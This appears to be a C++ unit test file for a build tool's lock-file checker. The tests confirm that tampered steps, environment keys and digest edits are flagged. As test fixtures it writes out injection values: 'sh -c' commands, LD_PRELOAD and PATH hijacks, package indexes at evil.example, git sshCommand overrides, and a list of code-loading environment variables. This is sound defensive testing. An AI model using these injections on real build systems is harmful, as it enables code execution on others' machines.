// Issue 32, finding 2 and its class: a lock is data. What the planner writes passes; a step or an
// environment key no plan makes is named, whatever field it hides in; an edit after writing is named.
#include "plan/lock_check.h"

#include <gtest/gtest.h>

#include <functional>

#include <filesystem>

#include <nlohmann/json.hpp>

#include "plan/lock.h"
#include "plan/render.h"
#include "plan_fixtures.h"
#include "util/fs.h"

namespace ts::plan {
namespace {

namespace fs = std::filesystem;

Plan corpus_lock(const std::string& name) {
  std::string err;
  auto p = read_lock(std::string(TS_SOURCE_DIR) + "/tests/fuzz/corpus_plan_lock/" + name, &err);
  EXPECT_TRUE(p) << err;
  return p.value_or(Plan{});
}

std::string joined(const std::vector<std::string>& v) {
  std::string o;
  for (const auto& s : v) o += s + "\n";
  return o;
}

// Every plan the planner makes on the fixture machines (CUDA, provisioned tools, fixes, libtorch,
// conda) passes: the check refuses nothing a plan writes.
TEST(LockCheck, EveryPlanThePlannerMakesPasses) {
  int checked = 0;
  for (const auto& e : fs::directory_iterator(std::string(TS_SOURCE_DIR) + "/tests/fixtures/hosts")) {
    if (!e.is_directory()) continue;
    for (const auto& [req, opts] : std::vector<std::pair<std::string, std::map<std::string, std::string>>>{
             {"torch==2.4.1", {}}, {"torch==2.6.0", {{"--package", "wheel,conda,libtorch"}}}}) {
      PlanResult r = make_plan(testing::spec_of(req, opts), testing::fixture(e.path().filename().string()),
                               testing::knowledge());
      if (!r.ok()) continue;
      ++checked;
      EXPECT_EQ(joined(lock_problems(r.plan)), "") << e.path().filename() << " " << req;
      // And as `plan -o` writes it and `build --lock` reads it back.
      std::string err;
      auto back = parse_lock(lock_json(r.plan).dump(), &err);
      ASSERT_TRUE(back) << err;
      EXPECT_EQ(joined(lock_problems(*back)), "");
    }
  }
  EXPECT_GT(checked, 10);
  EXPECT_EQ(joined(lock_problems(corpus_lock("hello-ext.lock.json"))), "");
  EXPECT_EQ(joined(lock_problems(corpus_lock("torch-cpu.lock.json"))), "");
}

// The typed values a lock carries read back as they were written: the C++ standard a remedy raises
// to (a lock written before it was typed gives it by TORCHSMITH_CXX_STD, read once; a typed 0 beside
// that env stays 0), and a CUDA that is a conflict stays one, never an empty version.
TEST(LockCheck, TypedValuesReadBackAsWritten) {
  Plan p;
  p.env["TORCHSMITH_CXX_STD"] = "17";
  nlohmann::json j = lock_json(p);
  ASSERT_TRUE(j.contains("cxx_std"));
  EXPECT_EQ(j["cxx_std"], 0);
  std::string err;
  auto zero = parse_lock(j.dump(), &err);
  ASSERT_TRUE(zero) << err;
  EXPECT_EQ(zero->cxx_std, 0);
  EXPECT_EQ(lock_json(*zero), j);
  j.erase("cxx_std");  // as a lock before the standard was typed
  auto legacy = parse_lock(j.dump(), &err);
  ASSERT_TRUE(legacy) << err;
  EXPECT_EQ(legacy->cxx_std, 17);
  j["env"]["TORCHSMITH_CXX_STD"] = "c++17";  // near miss: not a number, not a standard
  EXPECT_EQ(parse_lock(j.dump(), &err)->cxx_std, 0);
  Plan refused;
  refused.cuda = CudaChoice::conflict("CUDA toolkit");
  auto back = parse_lock(lock_json(refused).dump(), &err);
  ASSERT_TRUE(back) << err;
  EXPECT_TRUE(back->cuda.is_conflict());
  EXPECT_EQ(back->cuda.conflict_what(), "CUDA toolkit");
  nlohmann::json bad = lock_json(Plan{});
  bad["cuda"] = "twelve";
  EXPECT_FALSE(parse_lock(bad.dump(), &err));
  EXPECT_NE(err.find("cuda 'twelve'"), std::string::npos) << err;
}

// The attack's two cases: a step's argv changed to `sh -c ...`, LD_PRELOAD added to the env.
TEST(LockCheck, TheAttacksStepAndEnvironmentAreNamed) {
  Plan p = corpus_lock("hello-ext.lock.json");
  p.steps[0].argv = {"sh", "-c", "touch /tmp/pwned"};
  p.env["LD_PRELOAD"] = "/tmp/evil.so";
  auto probs = lock_problems(p);
  ASSERT_EQ(probs.size(), 2u) << joined(probs);
  EXPECT_NE(probs[0].find("runs sh"), std::string::npos) << probs[0];
  EXPECT_NE(probs[1].find("LD_PRELOAD"), std::string::npos) << probs[1];
}

// Re-tried with fields the attack did not test: each one alone is named.
TEST(LockCheck, OtherFieldsOfTheSameClassAreNamedToo) {
  const Plan base = corpus_lock("torch-cpu.lock.json");
  struct Case {
    const char* what;
    std::function<void(Plan&)> edit;
  };
  const std::vector<Case> cases = {
      {"PYTHONSTARTUP", [](Plan& p) { p.env["PYTHONSTARTUP"] = "/tmp/x.py"; }},
      {"PYTHONPATH", [](Plan& p) { p.env["PYTHONPATH"] = "{pyshim}:/tmp/evil"; }},
      {"BASH_ENV", [](Plan& p) { p.env["BASH_ENV"] = "/tmp/x.sh"; }},
      {"LD_AUDIT", [](Plan& p) { p.env["LD_AUDIT"] = "/tmp/a.so"; }},
      {"LD_LIBRARY_PATH", [](Plan& p) { p.env["LD_LIBRARY_PATH"] = "/tmp/evil"; }},
      {"GIT_SSH_COMMAND", [](Plan& p) { p.env["GIT_SSH_COMMAND"] = "touch /tmp/x"; }},
      {"PIP_INDEX_URL", [](Plan& p) { p.env["PIP_INDEX_URL"] = "https://evil.example/simple"; }},
      {"python -c", [](Plan& p) { p.steps[2].argv = {p.python, "-c", "import os"}; }},
      {"cmake -P", [](Plan& p) { p.steps[2].argv = {"cmake", "-P", "/tmp/x.cmake"}; }},
      {"cmake -E", [](Plan& p) { p.steps[2].argv = {"/usr/bin/cmake", "-E", "env", "sh"}; }},
      {"CMAKE_PROJECT_INCLUDE", [](Plan& p) { p.steps[2].argv = {"cmake", "-S", ".", "-DCMAKE_PROJECT_INCLUDE=/tmp/x.cmake"}; }},
      {"fetch url", [](Plan& p) { p.steps[0].argv[2] = "https://evil.example/pytorch@v2.4.1"; }},
      {"fetch dir", [](Plan& p) { p.steps[0].argv.insert(p.steps[0].argv.end(), {"--dir", "/home"}); }},
      {"git -c", [](Plan& p) { p.steps[0].argv = {"git", "-c", "core.sshCommand=sh", "clone", p.source_url, "{src}"}; }},
      {"cwd", [](Plan& p) { p.steps[2].cwd = "/"; }},
      {"step name", [](Plan& p) { p.steps.push_back({"postinstall", {"torchsmith", "verify"}, "", ""}); }},
      {"subcommand", [](Plan& p) { p.steps[1].argv[1] = "fix"; }},
      {"verify --python", [](Plan& p) { p.steps[4].argv[4] = "/tmp/evil/python"; }},
      {"python path", [](Plan& p) { p.steps[2].argv[0] = "/tmp/evil/python3"; }},
      {"empty argv", [](Plan& p) { p.steps[2].argv.clear(); }},
      {"PATH first", [](Plan& p) { p.env["PATH"] = "/tmp/evil:" + p.env["PATH"]; }},
      {"PATH relative", [](Plan& p) { p.env["PATH"] = p.env["PATH"] + ":."; }},
      {"CXX", [](Plan& p) { p.env["CXX"] = "/tmp/evil/g++"; }},
      {"CC", [](Plan& p) { p.env["CC"] = "sh"; }},
      {"CUDAHOSTCXX", [](Plan& p) { p.env["CUDAHOSTCXX"] = "/home/x/.local/bin/g++"; }},
      {"NVCC_PREPEND_FLAGS -ccbin", [](Plan& p) { p.env["NVCC_PREPEND_FLAGS"] = "-ccbin /tmp/evil"; }},
  };
  ASSERT_EQ(base.steps.size(), 5u);
  ASSERT_EQ(joined(lock_problems(base)), "");
  for (const auto& c : cases) {
    Plan p = base;
    c.edit(p);
    EXPECT_EQ(lock_problems(p).size(), 1u) << c.what << ":\n" << joined(lock_problems(p));
  }
}

// torchsmith's PEP 517 frontend: the plan's exact argv passes; another module, option or tree is named.
TEST(LockCheck, TheFrontendStepPassesOnlyInThePlannersForm) {
  Plan base = corpus_lock("hello-ext.lock.json");
  std::size_t b = 0;
  while (b < base.steps.size() && base.steps[b].name != "build") ++b;
  ASSERT_LT(b, base.steps.size());
  base.steps[b].argv = {base.python, "-m", "torchsmith_pep517", "-w", "dist", "."};
  ASSERT_EQ(joined(lock_problems(base)), "");
  for (auto edit : std::vector<std::function<void(Plan&)>>{
           [&](Plan& p) { p.steps[b].argv[2] = "evil_module"; },
           [&](Plan& p) { p.steps[b].argv[4] = "/tmp/elsewhere"; },
           [&](Plan& p) { p.steps[b].argv.push_back("--config-settings=x"); },
           [&](Plan& p) { p.steps[b].argv[0] = "/tmp/evil/python3"; }}) {
    Plan p = base;
    edit(p);
    EXPECT_FALSE(lock_problems(p).empty()) << p.steps[b].argv[2];
  }
}

// The build overlay (issue 34's build.overlay): the planner's form passes, with its folder on
// PYTHONPATH; another program, an option for pip or a folder elsewhere is named.
TEST(LockCheck, TheBuildOverlayStepPassesOnlyInThePlannersForm) {
  Plan base = corpus_lock("hello-ext.lock.json");
  const std::string dir = "/root/.cache/torchsmith/build-overlay/0123456789abcdef";
  base.steps.insert(base.steps.begin(), Step{"build-requires",
                                             {base.python, "-m", "pip", "install", "--no-deps", "--upgrade", "--target",
                                              dir, "--", "scikit-build-core", "pybind11>=2.10"},
                                             "", ""});
  base.env["PYTHONPATH"] = std::string(kPyshimPlaceholder) + ":" + dir;
  ASSERT_EQ(joined(lock_problems(base)), "");
  for (auto edit : std::vector<std::function<void(Plan&)>>{
           [](Plan& p) { p.steps[0].argv[0] = "/tmp/evil/python3"; },
           [](Plan& p) { p.steps[0].argv[9] = "--index-url=https://evil.example/simple"; },
           [](Plan& p) { p.steps[0].argv[7] = "/tmp/overlay"; },
           [](Plan& p) { p.steps[0].argv[4] = "download"; },
           [&](Plan& p) { p.env["PYTHONPATH"] = std::string(kPyshimPlaceholder) + ":" + dir + ":/tmp/evil"; }}) {
    Plan p = base;
    edit(p);
    EXPECT_FALSE(lock_problems(p).empty()) << p.steps[0].argv[0];
  }
}

TEST(LockCheck, ADigestNamesAnEditAfterWriting) {
  nlohmann::json j = lock_json(corpus_lock("torch-cpu.lock.json"));
  EXPECT_EQ(lock_seal(j), LockSeal::unsealed);
  seal_lock(j);
  EXPECT_EQ(lock_seal(j), LockSeal::sealed);
  LockSeal seal{};
  ASSERT_TRUE(parse_lock(j.dump(2), nullptr, &seal));
  EXPECT_EQ(seal, LockSeal::sealed);  // formatting is not an edit
  for (auto edit : std::vector<std::function<void(nlohmann::json&)>>{
           [](nlohmann::json& x) { x["jobs"] = 64; },
           [](nlohmann::json& x) { x["env"]["MAX_JOBS"] = "3"; },
           [](nlohmann::json& x) { x["steps"][2]["argv"][1] = "setup.py "; },
           [](nlohmann::json& x) { x["digest"] = "sha256:" + std::string(64, '0'); },
           [](nlohmann::json& x) { x["digest"] = 7; }}) {
    nlohmann::json e = j;
    edit(e);
    ASSERT_TRUE(parse_lock(e.dump(), nullptr, &seal));
    EXPECT_EQ(seal, LockSeal::edited) << e.dump().substr(0, 80);
  }
}

TEST(LockCheck, LoaderKeysAreKnownByName) {
  for (const char* k : {"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME",
                        "BASH_ENV", "ENV", "PERL5OPT", "NODE_OPTIONS", "GIT_CONFIG_COUNT", "DYLD_INSERT_LIBRARIES",
                        "BASH_FUNC_x%%", "OPENSSL_CONF", "PIP_CONFIG_FILE"})
    EXPECT_TRUE(loads_code(k)) << k;
  for (const char* k : {"PATH", "MAX_JOBS", "CC", "CXX", "TORCH_CUDA_ARCH_LIST", "USE_CUDA", "CUDA_HOME"})
    EXPECT_FALSE(loads_code(k)) << k;
}

}  // namespace
}  // namespace ts::plan
